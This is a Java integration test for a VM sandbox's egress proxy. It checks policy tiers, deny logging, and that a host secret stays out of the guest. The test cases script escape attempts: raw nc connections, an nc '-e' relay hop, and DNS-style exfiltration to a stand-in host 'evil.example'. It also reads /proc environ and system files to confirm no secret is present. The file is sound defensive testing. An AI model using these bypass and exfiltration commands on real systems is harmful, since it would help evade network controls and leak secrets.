package dev.cofferdam.vm.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cofferdam.vm.egress.EgressQuery;
import dev.cofferdam.vm.egress.EgressRecord;
import dev.cofferdam.vm.egress.EgressRuntime;
import dev.cofferdam.vm.egress.OverrideResolver;
import dev.cofferdam.vm.egress.Resolver;
import dev.cofferdam.vm.policy.CofferdamDirs;
import dev.cofferdam.vm.policy.PolicyDocument;
import dev.cofferdam.vm.policy.PolicyStore;
import dev.cofferdam.vm.policy.RuleAction;
import dev.cofferdam.vm.policy.RuleParser;
import dev.cofferdam.vm.policy.Tier;
import dev.cofferdam.vm.secret.Credential;
import dev.cofferdam.vm.secret.EncryptedFileSecretStore;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * One real guest behind the real egress proxy (ProxyEgressRelay → EgressRuntime), with the
 * DESIGN §4 setting: {@code allowed.example} and {@code evil.example} resolve (override) to a
 * loopback upstream this test starts; exact {@code 127.0.0.1:PORT} rules admit it where a case
 * needs it. Each test writes the sandbox's policy file first (edits apply at once) and checks the
 * egress log. Covers the three tiers and the guest-side bad-input cases 1, 2, 3, 5, 6, 7, 8, 39.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 300, unit = TimeUnit.SECONDS)
class SandboxEgressIT {
    private static final String BOX = "net";
    private static final String SECRET = "s3cr3t-value-that-must-stay-on-the-host";
    private static final String PLACEHOLDER = "cofferdam-placeholder-7f3a9c";

    @TempDir
    static Path data;
    private LoopbackUpstream upstream;
    private int port;
    private EgressRuntime runtime;
    private EncryptedFileSecretStore secrets;
    private PolicyStore policies;
    private ProxyEgressRelay relay;
    private SandboxService service;

    @BeforeAll
    void boot() throws Exception {
        upstream = new LoopbackUpstream();
        port = upstream.port();
        CofferdamDirs dirs = new CofferdamDirs(data.resolve("config"), data.resolve("egress"));
        secrets = new EncryptedFileSecretStore(dirs.config());
        secrets.put(new Credential("custom", List.of("allowed.example"), "CUSTOM_API_KEY", PLACEHOLDER), SECRET);
        Resolver resolver = OverrideResolver.parse(List.of("allowed.example=127.0.0.1", "evil.example=127.0.0.1"),
                Resolver.none());
        runtime = EgressRuntime.open(dirs, resolver);
        policies = new PolicyStore(dirs.config());
        balanced();
        relay = new ProxyEgressRelay(runtime, secrets);
        service = TestGuests.service(data.resolve("vm"), relay);
        service.create(SandboxSpec.of(BOX), (s, d, t) -> { });
    }

    private SandboxService newService() throws SandboxException {
        return new SandboxService(TestGuests.dirs(data.resolve("vm")), relay,
                new SandboxService.Options(TestGuests.BOOT, Optional.empty()));
    }

    @AfterAll
    void cleanup() throws Exception {
        TestGuests.closeAll(service, relay, runtime, upstream);
    }

    @Test
    void guestSeesTheProxyThePlaceholdersAndTheCa() throws Exception {
        TestGuests.Output env = sh("env");
        for (String k : List.of("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy")) {
            assertThat(env.out()).contains(k + "=http://10.0.2.100:3128\n");
        }
        assertThat(env.out()).contains("NO_PROXY=\n", "no_proxy=\n", "CUSTOM_API_KEY=" + PLACEHOLDER + "\n",
                "SSL_CERT_FILE=" + ProxyEgressRelay.GUEST_CA_BUNDLE + "\n",
                "NODE_EXTRA_CA_CERTS=" + ProxyEgressRelay.GUEST_CA_FILE + "\n");
        // The tiny image has no system bundle: the CA stands alone in it.
        assertThat(sh("cat $SSL_CERT_FILE").out()).isEqualTo(runtime.ca().pem());
        assertThat(sh("cat $NODE_EXTRA_CA_CERTS").out()).isEqualTo(runtime.ca().pem());
    }

    @Test
    void lockedDownBlocksARequest() throws Exception {
        policy(Tier.LOCKED_DOWN);
        long mark = lastId();
        TestGuests.Output o = wget("http://allowed.example:" + port + "/locked");
        assertThat(o.code()).isNotZero();
        assertThat(o.err()).contains("403");
        assertThat(upstreamSaw("/locked")).isFalse();
        EgressRecord r = single(mark);
        assertThat(r.host()).isEqualTo("allowed.example");
        assertThat(r.decision()).isEqualTo("deny");
        assertThat(r.status()).isEqualTo(403);
    }

    @Test
    void balancedReturnsTheAllowedUpstreamsBody() throws Exception {
        balanced();
        long mark = lastId();
        TestGuests.Output o = wget("http://allowed.example:" + port + "/fine");
        assertThat(o.code()).as(o.err()).isZero();
        assertThat(o.out()).isEqualTo("upstream says /fine");
        EgressRecord r = single(mark);
        assertThat(r.host()).isEqualTo("allowed.example");
        assertThat(r.port()).isEqualTo(port);
        assertThat(r.decision()).isEqualTo("allow");
    }

    @Test
    void balancedBlocksEvil() throws Exception {
        balanced();
        long mark = lastId();
        TestGuests.Output o = wget("http://evil.example:" + port + "/evil");
        assertThat(o.err()).contains("403");
        assertThat(upstreamSaw("/evil")).isFalse();
        EgressRecord r = single(mark);
        assertThat(r.host()).isEqualTo("evil.example");
        assertThat(r.decision()).isEqualTo("deny");
    }

    @Test
    void openAllowsAndLogs() throws Exception {
        policy(Tier.OPEN, "allow 127.0.0.1:" + port);
        long mark = lastId();
        TestGuests.Output o = wget("http://evil.example:" + port + "/open");
        assertThat(o.out()).as(o.err()).isEqualTo("upstream says /open");
        EgressRecord r = single(mark);
        assertThat(r.host()).isEqualTo("evil.example");
        assertThat(r.decision()).isEqualTo("allow");
    }

    @Test
    void case1WithoutProxyVariablesThereIsNoRoute() throws Exception {
        policy(Tier.OPEN, "allow 127.0.0.1:" + port);
        long mark = lastId();
        for (String host : List.of("allowed.example", "10.0.2.2", "127.0.0.1", "10.0.2.100")) {
            TestGuests.Output o = sh("unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; "
                    + "timeout 10 wget -Y off -q -O - http://" + host + ":" + port + "/c1");
            assertThat(o.code()).as(host).isNotZero();
        }
        assertThat(upstreamSaw("/c1")).isFalse();
        assertThat(since(mark)).as("nothing reached the proxy").isEmpty();
    }

    @Test
    void case2RawTcpToAnIpLiteralIsRefused() throws Exception {
        long mark = lastId();
        for (String target : List.of("10.0.2.2 " + port, "127.0.0.1 " + port, "10.0.2.100 " + port, "10.0.2.3 " + port)) {
            TestGuests.Output o = sh("printf 'GET /c2 HTTP/1.0\\r\\n\\r\\n' | timeout 10 nc -w 3 " + target);
            assertThat(o.code()).as(target).isNotZero();
            assertThat(o.out()).as(target).doesNotContain("upstream says");
        }
        assertThat(upstreamSaw("/c2")).isFalse();
        assertThat(since(mark)).isEmpty();
    }

    @Test
    void case3UdpIsDropped() throws Exception {
        long mark = lastId();
        try (DatagramSocket udp = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            int u = udp.getLocalPort();
            sh("timeout 5 nslookup allowed.example 10.0.2.2:" + u + "; timeout 5 tftp -g -r x -l /tmp/x 10.0.2.2 " + u
                    + "; timeout 5 nslookup allowed.example 10.0.2.3");
            udp.setSoTimeout(2000);
            assertThatThrownBy(() -> udp.receive(new DatagramPacket(new byte[512], 512)))
                    .isInstanceOf(SocketTimeoutException.class);
        }
        assertThat(since(mark)).isEmpty();
    }

    @Test
    void case5TheGuestHasNoResolverAndTheProxyDecidesBeforeResolving() throws Exception {
        balanced();
        assertThat(sh("timeout 10 nslookup allowed.example").code()).isNotZero();
        assertThat(sh("cat /etc/resolv.conf").code()).isNotZero();
        long mark = lastId();
        // A name the override does not know: resolving it would fail; deciding first gives 403.
        TestGuests.Output o = wget("http://c2VjcmV0LWRhdGE.evil.example:" + port + "/c5");
        assertThat(o.err()).contains("403");
        EgressRecord r = single(mark);
        assertThat(r.host()).isEqualTo("c2vjcmv0lwrhdge.evil.example");
        assertThat(r.decision()).isEqualTo("deny");
    }

    @Test
    void case6Ipv6HasNoRoute() throws Exception {
        long mark = lastId();
        assertThat(sh("ip -6 addr show dev eth0 scope global; ip -6 route show default").out()).isBlank();
        TestGuests.Output o = sh("echo x | timeout 10 nc -w 3 2001:db8::1 3128");
        assertThat(o.code()).isNotZero();
        assertThat(sh("echo x | timeout 10 nc -w 3 fec0::2 " + port).code()).isNotZero();
        assertThat(since(mark)).isEmpty();
    }

    @Test
    void case7ConnectThroughAHelperRelayGetsTheSameDecision() throws Exception {
        balanced();
        long mark = lastId();
        String connect = "printf 'CONNECT evil.example:" + port + " HTTP/1.1\\r\\nHost: allowed.example:" + port
                + "\\r\\n\\r\\n' | timeout 10 nc ";
        TestGuests.Output viaHelper = sh("printf '#!/bin/sh\\nexec nc 10.0.2.100 3128\\n' > /tmp/hop.sh; "
                + "chmod +x /tmp/hop.sh; (nc -l -p 9000 -e /tmp/hop.sh &); sleep 1; " + connect + "127.0.0.1 9000");
        TestGuests.Output direct = sh(connect + "10.0.2.100 3128");
        assertThat(firstLine(viaHelper.out())).startsWith("HTTP/1.1 403").isEqualTo(firstLine(direct.out()));
        List<EgressRecord> rs = since(mark);
        assertThat(rs).hasSize(2).allSatisfy(r -> {
            assertThat(r.method()).isEqualTo("CONNECT");
            assertThat(r.host()).isEqualTo("evil.example");
            assertThat(r.decision()).isEqualTo("deny");
        });
    }

    @Test
    void case8AHostServiceIsReachableOnlyThroughTheProxyWithAnExactRule() throws Exception {
        balanced();
        long mark = lastId();
        TestGuests.Output bypass = sh("NO_PROXY=localhost timeout 10 wget -Y off -q -O - http://localhost:" + port + "/c8");
        assertThat(bypass.code()).isNotZero();
        assertThat(since(mark)).isEmpty();
        policy(Tier.BALANCED, "allow allowed.example:" + port);
        TestGuests.Output denied = wget("http://127.0.0.1:" + port + "/c8");
        assertThat(denied.err()).contains("403");
        assertThat(upstreamSaw("/c8")).isFalse();
        EgressRecord d = single(mark);
        assertThat(d.host()).isEqualTo("127.0.0.1");
        assertThat(d.decision()).isEqualTo("deny");
        policy(Tier.BALANCED, "allow 127.0.0.1:" + port);
        long mark2 = lastId();
        TestGuests.Output allowed = wget("http://127.0.0.1:" + port + "/c8");
        assertThat(allowed.out()).as(allowed.err()).isEqualTo("upstream says /c8");
        EgressRecord a = single(mark2);
        assertThat(a.decision()).isEqualTo("allow");
        assertThat(a.rule()).contains("127.0.0.1:" + port);
    }

    @Test
    void case39TheSecretNeverEntersTheGuest() throws Exception {
        balanced();
        // The secret is never typed into the guest: everything is read out and searched on the host.
        TestGuests.Output env = sh("env");
        assertThat(env.out()).contains("CUSTOM_API_KEY=" + PLACEHOLDER).doesNotContain(SECRET);
        TestGuests.Output procs = sh("for f in /proc/[0-9]*/environ; do timeout 5 cat $f; echo; done | tr '\\000' '\\n'");
        assertThat(procs.out()).contains("CUSTOM_API_KEY=" + PLACEHOLDER).doesNotContain(SECRET);
        TestGuests.Output files = sh("timeout 60 find /etc /root /tmp /run " + ProxyEgressRelay.GUEST_CA_FILE
                + " -type f -size -1024k -exec cat {} +; timeout 10 dmesg");
        assertThat(files.out()).contains("BEGIN CERTIFICATE").doesNotContain(SECRET);
        long mark = lastId();
        TestGuests.Output o = sh("timeout 20 wget -q -O - --header \"Authorization: Bearer $CUSTOM_API_KEY\" "
                + "\"http://allowed.example:" + port + "/c39?token=$CUSTOM_API_KEY\"");
        assertThat(o.out()).as(o.err()).isEqualTo("upstream says /c39");
        // Plain HTTP is never intercepted: the placeholder travels unchanged, the secret stays on the host.
        assertThat(upstream.seen).filteredOn(s -> s.path().equals("/c39"))
                .singleElement().satisfies(s -> assertThat(s.authorization()).isEqualTo("Bearer " + PLACEHOLDER));
        EgressRecord r = single(mark);
        assertThat(r.decision()).isEqualTo("allow");
        assertThat(r.credential()).isEmpty();
        assertThat(r.path()).doesNotContain(PLACEHOLDER);
    }

    @Test
    void aReadoptedSandboxKeepsItsProxy() throws Exception {
        balanced();
        service.close();
        relay.close();
        relay = new ProxyEgressRelay(runtime, secrets);
        service = newService();
        long mark = lastId();
        TestGuests.Output o = wget("http://allowed.example:" + port + "/again");
        assertThat(o.out()).as(o.err()).isEqualTo("upstream says /again");
        assertThat(single(mark).sandbox()).isEqualTo(BOX);
    }

    private void balanced() throws Exception {
        policy(Tier.BALANCED, "allow allowed.example:" + port, "allow 127.0.0.1:" + port);
    }

    private void policy(Tier tier, String... rules) throws Exception {
        PolicyDocument doc = PolicyDocument.EMPTY.withTier(tier);
        for (String line : rules) {
            String[] p = line.split(" ", 2);
            doc = doc.with(RuleParser.parse(p[0].equals("allow") ? RuleAction.ALLOW : RuleAction.DENY, p[1]));
        }
        policies.write(BOX, doc);
    }

    private TestGuests.Output wget(String url) throws SandboxException {
        return sh("timeout 20 wget -q -O - '" + url + "'");
    }

    private TestGuests.Output sh(String script) throws SandboxException {
        return TestGuests.run(service, BOX, "sh", "-c", script);
    }

    private boolean upstreamSaw(String path) {
        return upstream.seen.stream().anyMatch(s -> s.path().equals(path));
    }

    private long lastId() throws Exception {
        List<EgressRecord> all = runtime.log().query(EgressQuery.sandbox(BOX));
        return all.isEmpty() ? 0 : all.get(all.size() - 1).id();
    }

    private List<EgressRecord> since(long mark) throws Exception {
        return runtime.log().query(new EgressQuery(BOX, null, null, mark, 1000));
    }

    private EgressRecord single(long mark) throws Exception {
        List<EgressRecord> rs = since(mark);
        assertThat(rs).hasSize(1);
        assertThat(rs.get(0).sandbox()).isEqualTo(BOX);
        return rs.get(0);
    }

    private static String firstLine(String s) {
        return s.lines().findFirst().orElse("").strip();
    }
}
